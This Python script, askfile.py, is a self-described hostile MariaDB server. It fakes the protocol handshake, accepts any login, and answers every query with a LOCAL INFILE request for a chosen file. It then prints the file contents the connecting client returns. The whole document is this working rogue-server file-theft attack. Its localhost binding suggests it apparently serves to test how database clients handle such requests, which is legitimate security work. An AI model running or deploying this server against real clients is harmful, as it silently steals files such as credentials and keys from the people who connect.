#!/usr/bin/env python3
"""askfile.py FILE: a hostile MariaDB on a free port of 127.0.0.1, which it prints: lets the client log in, then answers each
query by asking for FILE, and prints "given" and what came. Python's standard library only."""
import socket
import struct
import sys

CAPABILITIES = 0x000FA68D | 0x80 | 0x200 | 0x8000 | 0x80000


def send(client, sequence, payload):
    client.sendall(struct.pack("<I", len(payload))[:3] + bytes([sequence]) + payload)


def exactly(client, size):
    data = b""
    while len(data) < size:
        more = client.recv(size - len(data))
        if not more:
            raise EOFError
        data += more
    return data


def receive(client):
    head = exactly(client, 4)
    return head[3], exactly(client, head[0] | head[1] << 8 | head[2] << 16)


def serve(client):
    greeting = b"\x0a5.5.5-10.11.1-MariaDB\0" + struct.pack("<I", 1) + b"A" * 8 + b"\0"
    greeting += struct.pack("<HBHHB", CAPABILITIES & 0xFFFF, 45, 2, CAPABILITIES >> 16, 21) + b"\0" * 10
    send(client, 0, greeting + b"B" * 12 + b"\0mysql_native_password\0")
    sequence, _ = receive(client)
    send(client, sequence + 1, b"\0\0\0\2\0\0\0")
    while True:
        receive(client)
        send(client, 1, b"\xfb" + sys.argv[1].encode())
        sequence, given = receive(client)
        print("given", given.hex(), flush=True)
        send(client, sequence + 1, b"\0\0\0\2\0\0\0")


def main():
    listener = socket.create_server(("127.0.0.1", 0))
    print(listener.getsockname()[1], flush=True)
    while True:
        try:
            serve(listener.accept()[0])
        except (EOFError, ConnectionError):
            pass


if __name__ == "__main__":
    main()
